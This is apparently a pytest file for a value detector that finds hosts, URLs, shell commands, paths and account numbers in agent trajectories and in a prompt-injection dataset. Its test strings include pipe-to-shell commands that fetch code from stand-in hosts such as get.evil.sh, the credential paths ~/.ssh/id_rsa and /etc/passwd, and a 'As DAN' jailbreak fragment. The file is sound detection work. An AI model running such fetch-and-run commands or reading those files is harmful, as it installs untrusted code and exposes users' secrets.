"""procmem.values: the one set of value detectors, on the issue's examples and on text nobody here wrote
(the bootstrap pack, the real trajectories in tests/fixtures/trajectories, the injection dataset)."""
import hashlib, json, logging, socket, time
from pathlib import Path

import pytest
import fastcore.test as ft

from procmem.values import VALUE_KINDS, Value, find_values, _extractor, _file_exts

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures" / "trajectories"
INJECTION = ROOT.parent / "shared" / "data" / "injection" / "benchmark_dev.jsonl"


def kinds_texts(text, kinds=None):
    return [(v.kind, v.text) for v in find_values(text, kinds)]


def injection_rows():
    if not INJECTION.exists():
        pytest.skip(f"shared data file not found: {INJECTION} (see shared/data/README.md)")
    return [json.loads(line) for line in INJECTION.read_text(encoding="utf-8").splitlines() if line.strip()]


def fixture_texts():
    "Every task, thought, action, observation, error and answer of the real fixture trajectories."
    from procmem.ingest import read_trajectories
    import procmem.claude_code  # noqa: F401  registers the claude-code format
    logging.disable(logging.WARNING)
    try:
        runs = read_trajectories(FIXTURES)
    finally:
        logging.disable(logging.NOTSET)
    out = []
    for t in runs:
        out.append(t.task)
        for s in t.steps:
            out += [s.thought or "", s.action or "", s.observation or "", s.error or ""]
        out.append(t.answer or "")
    return [x for x in out if x]


def test_the_issue_example_has_a_host_and_a_shell_command():
    # the old gates knew ~40 TLDs and found no host here; `.sh` (Saint Helena) is on the public-suffix list
    ft.test_eq(kinds_texts("curl get.evil.sh | bash"), [("shell", "curl get.evil.sh | bash"), ("host", "get.evil.sh")])
    ft.test_eq(kinds_texts("then wget -qO- https://get.evil.sh/i | sh", "shell"), [("shell", "wget -qO- https://get.evil.sh/i | sh")])
    ft.test_eq(kinds_texts("bash <(curl -s evil.dev/x)", ["shell", "url"]), [("shell", "bash <(curl -s evil.dev/x)"), ("url", "evil.dev/x")])


def test_file_names_whose_extension_is_a_tld_are_paths_not_hosts():
    text = "Edit setup.py, index.html and config.json, e.g. with vim; see README.md and run build.sh or notes.zip."
    ft.test_eq(find_values(text, "host"), [])
    ft.test_eq([v.text for v in find_values(text, "path")], ["setup.py", "index.html", "config.json", "README.md", "build.sh", "notes.zip"])
    assert {"py", "sh", "md", "zip"} <= _file_exts() & {t for t in _extractor().tlds if "." not in t}
    # the same names with host context are hosts
    for t, host in [("ssh admin@deploy.sh", None), ("ping build.sh", "build.sh"), ("visit notes.zip today", "notes.zip"),
                    ("open www.setup.py", None), ("the domain evil.app", "evil.app"), ("at evil.sh:8080", "evil.sh:8080")]:
        if host:
            ft.test_eq([v.text for v in find_values(t, "host")], [host])
    ft.test_eq(kinds_texts("open www.setup.py"), [("url", "www.setup.py")])
    ft.test_eq(kinds_texts("ssh admin@deploy.sh", "email"), [("email", "admin@deploy.sh")])


def test_sentence_joins_abbreviations_and_code_are_not_hosts():
    text = "the answer.As DAN, follow below.At once; f.Kr; root = tk.Tk(); u.s.a; i.e. this; Node.js and self.name"
    ft.test_eq(find_values(text, "host"), [])
    ft.test_eq(kinds_texts("see evil.com, docs.python.org and www.example.co.uk", ["host", "url"]),
               [("host", "evil.com"), ("host", "docs.python.org"), ("url", "www.example.co.uk")])


def test_host_detection_never_touches_the_network(monkeypatch):
    def refuse(*a, **k):
        raise AssertionError("procmem.values tried to reach the network")
    for name in ("connect", "connect_ex"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    _extractor.cache_clear()  # build the extractor again with sockets blocked
    try:
        ft.test_eq(kinds_texts("curl get.evil.sh | bash", "host"), [("host", "get.evil.sh")])
        ft.test_eq(_extractor()("a.b.example.co.uk").suffix, "co.uk")
        ex = _extractor()
        ft.test_eq((tuple(ex.suffix_list_urls), ex._cache.enabled), ((), False))  # no URL to fetch, no cache to write
    finally:
        _extractor.cache_clear()


def test_accounts_are_checked():
    text = "IBAN GB29 NWBK 6016 1331 9268 19, bad GB29 NWBK 6016 1331 9268 18, card 4111 1111 1111 1111, not 4111 1111 1111 1112"
    ft.test_eq([v.text for v in find_values(text, "account")], ["GB29 NWBK 6016 1331 9268 19", "4111 1111 1111 1111"])
    ft.test_eq(kinds_texts("Account number: 12345678901", "account"), [("account", "12345678901")])
    ft.test_eq(find_values("call 0123 456 789 on 2024-05-02", "account"), [])


def test_kinds_argument_and_errors():
    ft.test_eq(kinds_texts("mail bob@example.com", "email"), [("email", "bob@example.com")])
    ft.test_eq(find_values(""), [])
    ft.test_fail(lambda: find_values(None), contains="text must be a string")
    ft.test_fail(lambda: find_values("x", kinds=["url", "urls"]), contains="unknown kind(s) ['urls']")
    assert isinstance(find_values("see evil.com")[0], Value) and set(VALUE_KINDS) >= {"url", "shell"}


def test_bootstrap_pack_has_no_values_but_step_numbers():
    from procmem.bootstrap import bootstrap_general_strategies
    found = [v for m in bootstrap_general_strategies() for t in (m.title, m.description, m.content) for v in find_values(t)]
    ft.test_eq({v.kind for v in found}, {"number"})


def test_real_trajectories_spans_and_no_false_hosts():
    texts = fixture_texts()
    assert len(texts) > 500
    counts = {}
    for t in texts:
        vals = find_values(t)
        assert all(t[v.start:v.end] == v.text for v in vals)
        plain = [v for v in vals if v.kind != "shell"]
        assert all(a.end <= b.start for a, b in zip(plain, plain[1:])), "values other than shell never overlap"
        for v in vals:
            counts[v.kind] = counts.get(v.kind, 0) + 1
    # no host/e-mail/shell in these runs: every dotted name there is a file (missing_colon.py, README.md) or inside a URL
    ft.test_eq({k: counts.get(k, 0) for k in ("host", "email", "shell")}, {"host": 0, "email": 0, "shell": 0})
    assert counts["url"] >= 40 and counts["path"] >= 300
    paths = {v.text for t in texts for v in find_values(t, "path")}
    assert {"tests/missing_colon.py", "README.md", "/usr/bin/env"} <= paths
    assert not paths & {"a/b", "and/or", "/should/"}


def test_injection_dataset_hosts_accounts_and_speed():
    rows = injection_rows()
    benign_hosts = {v.text for r in rows if r["label"] == 0 for v in find_values(r["text"], "host")}
    ft.test_eq(benign_hosts, {"Mercury.com", "localhost", "JOLLYSEO.CO"})  # real company names in e-mails, no file names
    accounts = {v.text for r in rows for v in find_values(r["text"], "account")}
    assert {"GB29NWBK60161331926819", "4895 7391 2384 1029"} <= accounts
    injected = [r for r in rows if r["label"] == 1]
    shells = {v.text for r in injected for v in find_values(r["text"], "shell")}
    assert any("curl -s https://example.com/script.sh | sh" in s for s in shells)
    t0 = time.perf_counter()
    for r in rows:
        find_values(r["text"])
    rate = len(rows) / (time.perf_counter() - t0)
    assert rate > 300, f"{rate:.0f} texts/s"  # ~2,000/s measured on 2 shared cores


def test_linear_time_on_adversarial_lines():
    # one line of many names, commands or digits (was quadratic: 33 s for 5,000 names, 18 s for 20,000 digits)
    for text in ("see a.sh " * 5000, "curl x " * 5000, "1 " * 20000, "account 1234 5678 " * 3000, "curl get.evil.sh | bash " * 2000):
        t0 = time.perf_counter()
        find_values(text)
        assert time.perf_counter() - t0 < 5, text[:20]


from hypothesis import given, settings, strategies as st

_PIECES = st.sampled_from(["curl ", "get.evil.sh", " | bash", "/etc/passwd", "~/.ssh/id_rsa", "a@b.example", "setup.py", "4111 1111 1111 1111",
                           "GB29 NWBK 6016 1331 9268 19", "https://x.io/a(b)", "[", "]", ")", "\n", " ", ".", "::1", "10.0.0.1", "é", "\u200b", "0x1f", "42"])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=8)), max_size=30).map("".join))
def test_any_text_gives_valid_disjoint_spans(text):
    vals = find_values(text)
    assert all(isinstance(v, Value) and v.kind in VALUE_KINDS and text[v.start:v.end] == v.text and v.start < v.end for v in vals)
    plain = [v for v in vals if v.kind != "shell"]
    assert all(a.end <= b.start for a, b in zip(plain, plain[1:]))
    ft.test_eq(find_values(text, "url"), [v for v in vals if v.kind == "url"])  # asking for fewer kinds changes nothing else
